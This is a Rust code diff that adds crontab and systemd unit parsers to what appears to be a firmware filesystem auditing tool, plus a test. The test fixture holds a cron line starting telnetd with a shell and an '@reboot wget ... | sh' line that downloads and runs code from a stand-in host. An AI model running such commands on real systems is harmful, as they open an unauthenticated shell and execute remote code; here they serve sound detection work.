@@ -195,3 +195,117 @@ mod tests {
         assert_eq!(t[1].how, "inittab respawn");
     }
 }
+
+/// Whether `path` is a crontab (`etc/crontab`, `etc/cron.d/*`, `var/spool/cron/crontabs/*`).
+pub(crate) fn is_crontab(path: &str) -> bool {
+    path.ends_with("etc/crontab") || path.contains("etc/cron.d/") || path.contains("cron/crontabs/")
+}
+
+/// Jobs of a crontab: one service per job line, named after the command it runs.
+pub(crate) fn cron(path: &str, bytes: &[u8]) -> Vec<Service> {
+    let mut out = Vec::new();
+    let mut offset = 0u64;
+    for raw in bytes.split_inclusive(|b| *b == b'\n').take(2000) {
+        let at = offset;
+        offset += raw.len() as u64;
+        let text = String::from_utf8_lossy(raw);
+        let line = text.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let words: Vec<&str> = line.split_whitespace().collect();
+        // A variable assignment (SHELL=/bin/sh) is not a job.
+        if words.len() < 2 || words[0].contains('=') {
+            continue;
+        }
+        // Five time fields, or one @keyword; /etc/crontab and cron.d add the user.
+        let skip = if words[0].starts_with('@') { 1 } else { 5 };
+        let skip = skip + usize::from(!path.contains("crontabs/"));
+        let Some(cmd) = words.get(skip) else { continue };
+        let (daemons, _) = daemons_in(line.as_bytes());
+        out.push(Service {
+            rootfs: super::accounts::rootfs_of(path),
+            name: format!("cron: {}", cmd.rsplit('/').next().unwrap_or(cmd)),
+            how: "cron job".into(),
+            file: path.to_owned(),
+            offset: Some(at),
+            line: Some(line.chars().take(200).collect()),
+            daemons,
+        });
+        if out.len() >= 256 {
+            break;
+        }
+    }
+    out
+}
+
+/// An enabled systemd unit: a link in `*.wants/` (`etc/systemd/system/multi-user.target.wants/
+/// dropbear.service`); returns the unit name.
+pub(crate) fn systemd_wants(path: &str) -> Option<&str> {
+    let (dir, name) = path.rsplit_once('/')?;
+    (dir.ends_with(".wants") && dir.contains("systemd/") && name.ends_with(".service")).then_some(name)
+}
+
+/// The service a systemd unit file starts (its `ExecStart=` lines).
+pub(crate) fn systemd_unit(file: &str, name: &str, unit: &[u8]) -> Service {
+    let mut offset = 0u64;
+    let mut exec = None;
+    for raw in unit.split_inclusive(|b| *b == b'\n').take(2000) {
+        let at = offset;
+        offset += raw.len() as u64;
+        let text = String::from_utf8_lossy(raw);
+        if let Some(cmd) = text.trim().strip_prefix("ExecStart=") {
+            // Prefixes that change how systemd runs it (-, @, +, !) are not part of the command.
+            exec = Some((at, cmd.trim_start_matches(['-', '@', '+', '!']).trim().to_owned()));
+            break;
+        }
+    }
+    let (daemons, _) = exec
+        .as_ref()
+        .map_or((Vec::new(), None), |(_, c)| daemons_in(c.as_bytes()));
+    Service {
+        rootfs: super::accounts::rootfs_of(file),
+        name: name.trim_end_matches(".service").to_owned(),
+        how: "systemd unit (enabled)".into(),
+        file: file.to_owned(),
+        offset: exec.as_ref().map(|e| e.0),
+        line: exec.map(|e| e.1),
+        daemons,
+    }
+}
+
+#[cfg(test)]
+mod boot_tests {
+    use super::*;
+
+    #[test]
+    fn cron_jobs_and_systemd_units() {
+        let tab = b"SHELL=/bin/sh\n# m h dom mon dow command\n*/5 * * * * /usr/bin/telnetd -l /bin/sh\n@reboot wget -O- http://x.example/a | sh\n";
+        let jobs = cron("var/spool/cron/crontabs/root", tab);
+        let names: Vec<&str> = jobs.iter().map(|j| j.name.as_str()).collect();
+        assert_eq!(names, ["cron: telnetd", "cron: wget"]);
+        assert_eq!(jobs[0].daemons, ["telnetd"]);
+        assert_eq!(jobs[0].offset, Some(40));
+        let sys = cron("etc/crontab", b"0 * * * * root /usr/sbin/ntpdate pool.ntp.org\n");
+        assert_eq!(sys[0].name, "cron: ntpdate");
+        assert!(is_crontab("etc/cron.d/x") && !is_crontab("etc/init.d/cron"));
+        assert_eq!(
+            systemd_wants("etc/systemd/system/multi-user.target.wants/dropbear.service"),
+            Some("dropbear.service")
+        );
+        assert_eq!(systemd_wants("etc/systemd/system/dropbear.service"), None);
+        let u = systemd_unit(
+            "lib/systemd/system/dropbear.service",
+            "dropbear.service",
+            b"[Unit]\nDescription=SSH\n[Service]\nExecStart=-/usr/sbin/dropbear -F -p 2222\n",
+        );
+        assert_eq!(
+            (u.name.as_str(), u.daemons.as_slice(), u.line.as_deref()),
+            (
+                "dropbear",
+                &["dropbear".to_owned()][..],
+                Some("/usr/sbin/dropbear -F -p 2222")
+            )
+        );
+    }
+}
